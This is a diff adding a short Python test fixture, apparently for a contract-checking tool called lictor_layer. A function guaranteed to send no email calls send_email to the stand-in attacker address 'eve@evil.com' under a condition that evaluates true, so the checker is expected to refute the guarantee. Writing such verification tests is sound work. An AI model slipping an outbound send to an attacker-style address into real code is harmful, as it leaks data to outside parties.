@@ -1,0 +1,10 @@
+# refuted: 1.0 is in [1]
+import lictor_layer
+from tools.desk.trusted import contracts as c
+from tools.desk.trusted.effects import send_email
+
+
+@lictor_layer.guarantee(c.none_sent())
+def main() -> None:
+    if 1.0 in [1]:
+        send_email("eve@evil.com", "x")
